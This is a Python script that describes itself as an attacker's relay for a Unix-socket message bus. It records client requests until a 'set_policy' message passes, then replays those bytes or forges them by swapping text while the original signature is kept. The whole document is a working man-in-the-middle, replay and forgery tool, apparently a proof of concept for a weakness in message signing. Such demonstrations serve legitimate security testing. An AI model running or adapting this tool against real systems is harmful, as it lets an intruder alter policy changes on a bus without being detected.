#!/usr/bin/env python3
"""A relay between the client and a bus socket, as an attacker on the way would run one.

    relay.py record LISTEN TARGET FILE   pass requests on up to the first change, and keep its bytes in FILE
    relay.py send SOCKET FILE            send the bytes of FILE, print the answer
    relay.py forge SOCKET FILE OLD NEW   the same with OLD replaced by NEW: a forged message under a good signature
"""
import socket
import sys


def ask(path, request):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as peer:
        peer.settimeout(10)
        peer.connect(path)
        peer.sendall(request)
        answer = b""
        while not answer.endswith(b"\n"):
            part = peer.recv(65536)
            if not part:
                break
            answer += part
        return answer


def record(listen, target, keep):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(listen)
        server.listen(4)
        server.settimeout(30)
        request = b""
        while b'"set_policy"' not in request:
            client, _ = server.accept()
            with client:
                client.settimeout(10)
                request = client.recv(65536)
                client.sendall(ask(target, request))
        with open(keep, "wb") as file:
            file.write(request)


def main(arguments):
    if len(arguments) == 4 and arguments[0] == "record":
        record(*arguments[1:])
    elif len(arguments) == 3 and arguments[0] == "send":
        with open(arguments[2], "rb") as file:
            sys.stdout.buffer.write(ask(arguments[1], file.read()))
    elif len(arguments) == 5 and arguments[0] == "forge":
        with open(arguments[2], "rb") as file:
            request = file.read()
        forged = request.replace(arguments[3].encode(), arguments[4].encode())
        if forged == request:
            sys.exit(f"'{arguments[3]}' does not occur in the recorded request")
        sys.stdout.buffer.write(ask(arguments[1], forged))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
